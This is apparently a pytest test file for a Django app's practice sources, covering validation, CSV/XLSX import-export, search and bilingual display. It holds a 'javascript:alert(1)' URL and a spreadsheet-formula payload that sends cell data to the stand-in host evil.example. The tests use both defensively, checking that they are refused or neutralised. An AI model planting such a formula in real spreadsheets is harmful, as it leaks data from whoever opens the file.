"""A practice's English texts and sources (ADR 0029): stored, validated,
imported and exported, searched, and shown in the reader's language."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from levier.practices import exchange
from levier.practices.models import Practice, PracticeLink
from levier.practices.search import ranked_ids
from levier.practices.sources import format_sources, parse_sources
from tests.factories import make_member, make_network_staff, make_organisation
from tests.practices.factories import make_practice

pytestmark = pytest.mark.django_db

INSEE = {
    "name": "INSEE, Tableaux de l’économie française",
    "year": 2024,
    "url": "https://www.insee.fr/fr/statistiques",
}
DARES = {"name": "DARES", "year": 2023, "url": "https://dares.travail-emploi.gouv.fr/"}


def _english_practice(network=None, **fields):
    fields = {
        "code": "velos",
        "title": "Prêter des vélos",
        "title_en": "Lending bikes",
        "summary": "Une flotte de vélos partagée.",
        "summary_en": "A shared fleet of bikes.",
        "context": "Les trajets courts se font en voiture.",
        "context_en": "Short trips are made by car.",
        "steps": "Acheter des vélos\nLes prêter",
        "steps_en": "Buy bikes\nLend them",
        "results": "Douze salariés viennent à vélo.",
        "results_en": "Twelve employees cycle to work.",
        "sources": [INSEE, DARES],
        "is_public": True,
        **fields,
    }
    return make_practice(network, **fields)


# --- sources -------------------------------------------------------------------


def test_sources_are_written_and_read_one_a_line():
    text = format_sources([INSEE, DARES])

    assert text.splitlines()[1] == "DARES | 2023 | https://dares.travail-emploi.gouv.fr/"
    assert parse_sources(text) == [INSEE, DARES]


@pytest.mark.parametrize(
    ("line", "problem"),
    [
        (" | 2024 | https://www.insee.fr/", "name"),
        ("INSEE | 1899 | https://www.insee.fr/", "1899"),
        (f"INSEE | {timezone.now().year + 2} | https://www.insee.fr/", "year"),
        ("INSEE | 2024 | javascript:alert(1)", "http"),
        ("INSEE | 2024 | ftp://www.insee.fr/", "http"),
        ("INSEE, 2024, https://www.insee.fr/", "|"),
    ],
)
def test_a_bad_source_line_is_refused_saying_why(line, problem):
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        parse_sources(f"{format_sources([DARES])}\n{line}")

    assert any(problem in message and "2" in message for message in refused.value.messages)


def test_next_years_source_is_accepted():
    year = timezone.now().year + 1

    assert parse_sources(f"Loi de finances | {year} | https://www.legifrance.gouv.fr/")


def test_the_model_refuses_malformed_sources():
    practice = _english_practice(code="bad-sources")
    practice.sources = [{"name": "INSEE", "year": "2024", "url": "https://www.insee.fr/"}]

    with pytest.raises(ValidationError) as refused:
        practice.full_clean()

    assert "sources" in refused.value.message_dict


# --- import and export ----------------------------------------------------------


@pytest.fixture
def animator_client(client, network):
    client.force_login(make_network_staff(network))
    return client


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_english_sources_and_links_round_trip(animator_client, network, extension):
    practice = _english_practice(network)
    PracticeLink.objects.create(
        practice=practice, framework="levier-360", question_code="ENV-MOB-04", level_code="fleet"
    )
    PracticeLink.objects.create(
        practice=practice, framework="iso-26000", question_code="ENV-CLI-03", level_code="cycling"
    )
    url = reverse("practice_export", args=[network.slug, extension])
    exported = animator_client.get(url).content
    Practice.objects.all().delete()

    response = animator_client.post(
        reverse("practice_import", args=[network.slug]),
        {"file": SimpleUploadedFile(f"export.{extension}", exported)},
    )

    assert response.status_code == 302
    back = Practice.objects.get(code="velos")
    for field in ("context_en", "steps_en", "results_en", "sources"):
        assert getattr(back, field) == getattr(practice, field), field
    assert set(back.links.values_list("framework", "question_code", "level_code")) == {
        ("levier-360", "ENV-MOB-04", "fleet"),
        ("iso-26000", "ENV-CLI-03", "cycling"),
    }


def test_a_source_that_looks_like_a_formula_is_neutralised(animator_client, network):
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    _english_practice(network, sources=[{**INSEE, "name": name}])

    exported = animator_client.get(reverse("practice_export", args=[network.slug, "xlsx"]))

    sheet = load_workbook(io.BytesIO(exported.content)).active
    column = exchange.COLUMNS.index("sources") + 1
    cell = sheet.cell(row=2, column=column)
    assert cell.value.startswith("'=") and cell.data_type == "s"
    assert parse_sources(cell.value[1:]) == [{**INSEE, "name": name}]


def test_an_import_with_a_bad_source_says_where(animator_client, network):
    header = "code,title,summary,steps,effort,cost,sources"
    line = 'velos,Vélos,Moins de voitures,Acheter,low,none,"INSEE | 2024 | https://www.insee.fr/\nDARES | 20 | https://dares.travail-emploi.gouv.fr/"'  # noqa: E501
    upload = SimpleUploadedFile("p.csv", f"{header}\n{line}".encode())

    response = animator_client.post(
        reverse("practice_import", args=[network.slug]), {"file": upload}
    )

    assert response.status_code == 400
    errors = [str(error) for error in response.context["errors"]]
    assert len(errors) == 1 and "sources" in errors[0] and "2" in errors[0]
    assert not Practice.objects.exists()


@pytest.mark.parametrize(
    "cell",
    ["iso-26000:NOPE-01:yes", "iso-26000:GOUV-DEC-03:no", "acme:GOUV-DEC-03:yes"],
)
def test_an_import_refuses_a_link_to_no_better_level(animator_client, network, cell):
    header = "code,title,summary,steps,effort,cost,questions"
    upload = SimpleUploadedFile(
        "p.csv", f"{header}\nvelos,Vélos,Moins,Acheter,low,none,{cell}".encode()
    )

    response = animator_client.post(
        reverse("practice_import", args=[network.slug]), {"file": upload}
    )

    assert response.status_code == 400
    assert "questions" in str(response.context["errors"][0])


def test_shipped_links_files_add_to_the_practices_links():
    _practices, extra = exchange.shipped_files()
    rows = {row.fields["code"]: row for row in exchange.validate(exchange.shipped_rows(), None)}

    for link in extra:
        expected = (link["framework"], link["question"], str(link["level"]))
        assert expected in rows[link["practice"]].links


# --- search ---------------------------------------------------------------------


def test_the_english_texts_are_searched():
    practice = _english_practice()
    make_practice(code="autre", title="Autre chose", summary="Rien à voir.")

    for word in ("car", "cycle", "lend"):
        assert ranked_ids(Practice.objects.all(), word) == [practice.pk], word


# --- the practice page ----------------------------------------------------------


def _page(client, practice, language):
    response = client.get(
        reverse("practice_detail", args=[practice.pk]), HTTP_ACCEPT_LANGUAGE=language
    )
    assert response.status_code == 200
    return response.content.decode()


def test_the_page_shows_the_english_texts_in_english(client):
    practice = _english_practice()

    english = _page(client, practice, "en")
    french = _page(client, practice, "fr")

    for text in ("Short trips are made by car.", "<li>Lend them</li>", "Twelve employees"):
        assert text in english and text not in french
    for text in ("Les trajets courts", "<li>Les prêter</li>", "Douze salariés"):
        assert text in french and text not in english
    # In the reader's language: no lang attribute of their own.
    assert "<h1>Lending bikes</h1>" in english and "<ol><li>Buy bikes</li>" in english
    assert "<div><p>Short trips are made by car.</p>" in english


def test_a_practice_without_english_shows_its_french_marked_as_french(client, network):
    practice = make_practice(
        network,
        code="sans-anglais",
        title="Une causerie",
        context="Pourquoi en parler.",
        results="Tout le monde vient.",
    )
    member = make_member(make_organisation(network))
    client.force_login(member)

    english = _page(client, practice, "en")

    assert '<h1 lang="fr">Une causerie</h1>' in english
    assert '<div lang="fr"><p>Pourquoi en parler.</p>' in english
    assert '<ol lang="fr"><li>Faire un premier pas</li>' in english
    assert '<div lang="fr"><p>Tout le monde vient.</p>' in english


def test_the_sources_are_listed_as_external_links(client):
    practice = _english_practice()

    page = _page(client, practice, "fr")

    for source in (INSEE, DARES):
        link = f'<a href="{source["url"]}" rel="noopener noreferrer">{source["name"]}</a>'
        assert link in page
    assert 'id="sources-title"' not in _page(
        client, _english_practice(code="nue", sources=[]), "fr"
    )
